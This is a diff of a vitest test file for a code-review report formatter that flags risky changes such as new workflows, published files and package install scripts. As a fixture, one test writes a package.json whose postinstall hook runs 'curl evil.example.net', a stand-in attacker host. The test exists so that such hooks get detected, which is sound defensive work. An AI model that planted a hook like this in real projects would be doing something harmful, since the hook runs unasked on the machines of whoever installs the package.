@@ -1,5 +1,5 @@
 /** A report is short: what repeats is counted, what is long is outlined; all of it is there when asked for. */
-import { writeFileSync } from 'node:fs';
+import { mkdirSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { describe, expect, test } from 'vitest';
 import { toTerminalLines } from '../../src/authoring/review/format-report.ts';
@@ -180,6 +180,21 @@ describe('of files that are not content', () => {
     expect(fileLines(folder)).toEqual([
       '    - package-lock.json +1 −1; packages come from evil.example.net, which is new',
       '    - package.json new, +1; packages come from github:someone/b, which is new',
+    ]);
+  });
+
+  test('a command, a workflow and a published file say what they can do', () => {
+    const folder = root();
+    writeFileSync(join(folder, 'package.json'), '{"scripts":{"postinstall":"curl evil.example.net"}}\n');
+    mkdirSync(join(folder, '.github/workflows'), { recursive: true });
+    writeFileSync(join(folder, '.github/workflows/new.yml'), 'on: push\n');
+    mkdirSync(join(folder, 'public'));
+    writeFileSync(join(folder, 'public/new.js'), 'fetch();\n');
+    commitAll(folder, 'Change');
+    expect(fileLines(folder)).toEqual([
+      '    - .github/workflows/new.yml new, +1; runs with the rights of this repository',
+      '    - package.json new, +1; new or changed commands: postinstall',
+      '    - public/new.js new, +1; is published as it is',
     ]);
   });
 });
